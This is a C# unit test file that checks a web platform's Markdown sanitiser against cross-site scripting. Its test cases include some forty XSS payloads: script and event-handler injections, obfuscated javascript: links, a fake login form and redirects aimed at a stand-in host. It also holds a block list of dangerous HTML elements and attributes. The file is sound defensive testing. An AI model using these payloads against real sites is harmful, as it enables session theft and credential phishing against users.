using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Towngreen.Testing;
using Towngreen.Web.Platform.Text;

namespace Towngreen.Web.Tests.Platform.Text;

/// <summary>Letters, verdicts, prework and mail are Markdown that people write: none of it may run in another's browser.</summary>
public sealed class MarkdownHarmTests
{
    private static readonly string[] Elements =
        ["script", "style", "iframe", "object", "embed", "form", "input", "button", "textarea", "select", "svg", "math", "link", "meta", "base", "img", "video", "audio", "template", "noscript"];

    private static readonly string[] Schemes = ["http", "https", "mailto"];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<ScRiPt >alert(1)</sCrIpT >")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<svg/onload=alert(1)>")]
    [InlineData("<svg><animate onbegin=alert(1) attributeName=x dur=1s>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<a href=\"javascript:alert(1)\">x</a>")]
    [InlineData("<body onload=alert(1)>")]
    [InlineData("<details open ontoggle=alert(1)>")]
    [InlineData("<form action=//evil.example><input name=password><button>Sign in</button></form>")]
    [InlineData("<base href=//evil.example/>")]
    [InlineData("<meta http-equiv=refresh content=\"0;url=//evil.example\">")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">")]
    [InlineData("<template><script>alert(1)</script></template>")]
    [InlineData("[x](javascript:alert(1))")]
    [InlineData("[x](JaVaScRiPt:alert(1))")]
    [InlineData("[x](java&#x09;script:alert(1))")]
    [InlineData("[x](&#106;avascript:alert(1))")]
    [InlineData("[x](\u0001javascript:alert(1))")]
    [InlineData("[x](vbscript:msgbox(1))")]
    [InlineData("[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)")]
    [InlineData("[x](file:///etc/passwd)")]
    [InlineData("![x](javascript:alert(1))")]
    [InlineData("![x](//evil.example/pixel.png)")]
    [InlineData("<javascript:alert(1)>")]
    [InlineData("[x]: javascript:alert(1)\n\n[x]")]
    [InlineData("# x {onclick=alert(1)}")]
    [InlineData("[x](https://example.org){onmouseover=alert(1) style=\"position:fixed;inset:0\"}")]
    [InlineData("x {.usa-button #signin style=color:red onfocus=alert(1) autofocus tabindex=1}")]
    [InlineData("[x](https://example.org){href=javascript:alert(1)}")]
    [InlineData("```html {onclick=alert(1)}\n<script>alert(1)</script>\n```")]
    [InlineData("| a |\n|---|\n| <img src=x onerror=alert(1)> |")]
    [InlineData("`<script>alert(1)</script>`")]
    [InlineData("<!--><script>alert(1)</script>-->")]
    [InlineData("<![CDATA[<script>alert(1)</script>]]>")]
    [InlineData("\\<script>alert(1)\\</script>")]
    [InlineData("&lt;script&gt;alert(1)&lt;/script&gt;")]
    [InlineData("<p style=\"background:url(javascript:alert(1))\">x</p>")]
    public void Render_WhatWouldRun_IsTextOrGone(string markdown)
    {
        var body = new HtmlParser().ParseDocument(Markdown.ToSafeHtml(markdown)).Body!;

        Assert.All(body.QuerySelectorAll("*"), element => Assert.Equal([], FaultsOf(element)));
    }

    [Fact]
    public void Render_OrdinaryText_KeepsItsMarkup()
    {
        var html = Markdown.ToSafeHtml("**Bold**, [a link](https://example.org), and a list:\n\n* one\n* two");

        Assert.Equal(["strong", "a", "li", "li"], new HtmlParser().ParseDocument(html).QuerySelectorAll("strong, a, li").Select(element => element.LocalName));
    }

    [Fact]
    public void Markup_IsMadeOfAStringInOnePlaceOnly()
    {
        var sources = Directory.GetFiles(RepositoryRoot.Combine("src", "Towngreen.Web"), "*.cs*", SearchOption.AllDirectories)
            .Where(file => !file.Contains("/Migrations/", StringComparison.Ordinal)).ToList();

        var making = sources.Where(file => File.ReadAllText(file) is var text
            && (text.Contains("new HtmlString(", StringComparison.Ordinal) || text.Contains("Html.Raw(", StringComparison.Ordinal))).Select(Path.GetFileName);

        Assert.NotEmpty(sources);
        Assert.Equal(["Markdown.cs"], making);
    }

    private static IEnumerable<string> FaultsOf(IElement element)
    {
        if (Elements.Contains(element.LocalName))
        {
            yield return $"<{element.LocalName}>";
        }

        foreach (var attribute in element.Attributes)
        {
            var value = attribute.Value;
            var isAddress = attribute.LocalName is "href" or "src" or "action" or "formaction" or "poster" or "cite";
            if (attribute.LocalName.StartsWith("on", StringComparison.Ordinal) || attribute.LocalName is "style" or "class" or "srcdoc" or "autofocus"
                || (isAddress && Uri.TryCreate(value.Trim(), UriKind.Absolute, out var address) && !Schemes.Contains(address.Scheme)))
            {
                yield return $"{attribute.LocalName}={value}";
            }
        }
    }
}
